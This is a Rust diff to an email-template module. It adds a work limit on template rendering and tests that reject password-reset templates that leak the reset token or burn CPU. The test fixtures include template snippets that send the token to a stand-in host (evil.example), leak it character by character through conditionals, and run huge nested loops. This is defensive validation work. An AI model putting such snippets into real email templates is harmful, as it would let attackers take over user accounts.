@@ -30,6 +30,7 @@ use crate::error::BuildError;
 use crate::link::LinkBuilder;
 use crate::mail::{EmailKind, MailContent};
 
+mod confine;
 mod lint;
 mod store;
 
@@ -146,16 +147,7 @@ impl Templates {
             });
         };
         let source = set.get(kind);
-        let mut env = Environment::new();
-        env.set_undefined_behavior(UndefinedBehavior::Strict);
-        env.set_formatter(html_formatter);
-        env.set_auto_escape_callback(|name| {
-            if name.ends_with(".html") {
-                AutoEscape::Html
-            } else {
-                AutoEscape::None
-            }
-        });
+        let env = environment();
         let mut parts = Vec::with_capacity(3);
         for (part, text) in [
             ("subject", &source.subject),
@@ -166,10 +158,7 @@ impl Templates {
             let rendered = env
                 .template_from_named_str(&name, text)
                 .and_then(|t| t.render(values))
-                .map_err(|e| RenderError {
-                    template: name.clone(),
-                    reason: e.to_string(),
-                })?;
+                .map_err(|e| render_error(&name, &e))?;
             parts.push(rendered);
         }
         let html = parts.pop().unwrap_or_default();
@@ -216,16 +205,7 @@ impl Templates {
                 format!("locale `{}` has no templates", self.default_locale),
             ));
         }
-        let mut env = Environment::new();
-        env.set_undefined_behavior(UndefinedBehavior::Strict);
-        env.set_formatter(html_formatter);
-        env.set_auto_escape_callback(|name| {
-            if name.ends_with(".html") {
-                AutoEscape::Html
-            } else {
-                AutoEscape::None
-            }
-        });
+        let mut env = environment();
         for (locale, set) in &self.locales {
             for (kind, source) in set.sources() {
                 for (part, text) in [
@@ -286,6 +266,45 @@ impl LocaleTemplates {
             (EmailKind::UsernameRequired, &self.username_required),
             (EmailKind::PasswordChanged, &self.password_changed),
         ]
+    }
+}
+
+/// The most template steps one rendering of one email part may take
+/// (minijinja's fuel). The shipped templates take a few hundred; a combined
+/// email takes a few dozen more per account. A template that loops over
+/// large ranges is refused when it is saved, and can never make every
+/// later mail burn CPU.
+pub const TEMPLATE_FUEL: u64 = 100_000;
+
+/// The environment every template is parsed and rendered in: strict
+/// undefined values, HTML escaping for `.html` parts, bounded work.
+fn environment() -> Environment<'static> {
+    let mut env = Environment::new();
+    env.set_undefined_behavior(UndefinedBehavior::Strict);
+    env.set_formatter(html_formatter);
+    env.set_auto_escape_callback(|name| {
+        if name.ends_with(".html") {
+            AutoEscape::Html
+        } else {
+            AutoEscape::None
+        }
+    });
+    env.set_fuel(Some(TEMPLATE_FUEL));
+    env
+}
+
+fn render_error(name: &str, e: &minijinja::Error) -> RenderError {
+    let reason = if e.kind() == minijinja::ErrorKind::OutOfFuel {
+        format!(
+            "does too much work: rendering one email may take at most {TEMPLATE_FUEL} template steps \
+             (loops over large ranges are refused)"
+        )
+    } else {
+        e.to_string()
+    };
+    RenderError {
+        template: name.to_owned(),
+        reason,
     }
 }
 
@@ -364,10 +383,7 @@ impl CompiledTemplates {
             self.env
                 .get_template(&name)
                 .and_then(|t| t.render(ctx))
-                .map_err(|e| RenderError {
-                    template: name.clone(),
-                    reason: e.to_string(),
-                })
+                .map_err(|e| render_error(&name, &e))
         };
         let subject = part("subject")?.split_whitespace().collect::<Vec<_>>().join(" ");
         Ok(MailContent {
@@ -578,6 +594,89 @@ mod tests {
             proptest::prop_assert!(visible.contains(&links.deny_link));
             proptest::prop_assert!(lint::text_has_link_alone(&out.text, &links.link));
         }
+    }
+
+    #[test]
+    fn a_template_that_sends_the_token_elsewhere_is_refused() {
+        let (r, d) = links();
+        let base = "<p><a href=\"{{ link }}\">Reset</a> <a href=\"{{ deny_link }}\">not me</a></p>";
+        for (extra, part, place) in [
+            (
+                "<img src=\"https://evil.example/p?{{ link }}\">",
+                "reset.html",
+                "evil.example",
+            ),
+            (
+                "<a href=\"https://evil.example/?u={{ link|replace('/', '%2F') }}\">x</a>",
+                "reset.html",
+                "evil.example",
+            ),
+            (
+                "<a href=\"https://a.example/help?{{ link[30:] }}\">help</a>",
+                "reset.html",
+                "a.example",
+            ),
+            (
+                "{% if link[40] < 'M' %}<b>x</b>{% endif %}{% if link[41] < 'M' %}<i>y</i>{% endif %}\
+              {% if link[42] < 'M' %}<u>z</u>{% endif %}{% if link[43] < 'M' %}<s>w</s>{% endif %}",
+                "reset.html",
+                "structure",
+            ),
+            ("<p>Or copy: {{ link }} now</p>", "reset.html", "text of a <p>"),
+            (
+                "<link rel=stylesheet href=\"https://cdn.example/a.css\">",
+                "reset.html",
+                "remote resource",
+            ),
+            (
+                "<img src=\"https://cdn.example/logo.png\" alt=logo>",
+                "reset.html",
+                "remote resource",
+            ),
+        ] {
+            let mut t = Templates::english();
+            t.locale_mut("en").reset.html = format!("{base}{extra}");
+            let err = t
+                .compile(&r, &d, "https://a.example/security")
+                .unwrap_err()
+                .to_string();
+            assert!(err.contains(part) && err.contains(place), "{extra}: {err}");
+        }
+        let mut t = Templates::english();
+        t.locale_mut("en").reset.text =
+            "{{ link }}\n\n{{ deny_link }}\nhttps://evil.example/?{{ link }}\n".into();
+        let err = t
+            .compile(&r, &d, "https://a.example/security")
+            .unwrap_err()
+            .to_string();
+        assert!(err.contains("reset.text") && err.contains("line 4"), "{err}");
+        // Allowed: the link as its own visible text, links elsewhere without it, inline images.
+        let mut t = Templates::english();
+        t.locale_mut("en").reset.html = format!(
+            "{base}<p><a href=\"{{{{ link }}}}\">{{{{ link }}}}</a> <a href=\"https://a.example/help\">help</a>\
+             <img src=\"data:image/png;base64,AAAA\" alt=\"\"></p>"
+        );
+        t.compile(&r, &d, "https://a.example/security").unwrap();
+    }
+
+    #[test]
+    fn a_template_that_burns_cpu_is_refused() {
+        let (r, d) = links();
+        let mut t = Templates::english();
+        t.locale_mut("en").reset.text =
+            "{{ link }}\n\n{{ deny_link }}\n{% for i in range(2000) %}{% for j in range(2000) %}{% endfor %}{% endfor %}".into();
+        let started = std::time::Instant::now();
+        let err = t
+            .compile(&r, &d, "https://a.example/security")
+            .unwrap_err()
+            .to_string();
+        assert!(
+            err.contains("reset.render") && err.contains("too much work"),
+            "{err}"
+        );
+        // Refused quickly (fuel), not after running the loops: not a timing
+        // assert on a noisy machine, a bound three orders above the figure.
+        assert!(started.elapsed() < std::time::Duration::from_secs(60));
     }
 
     #[test]
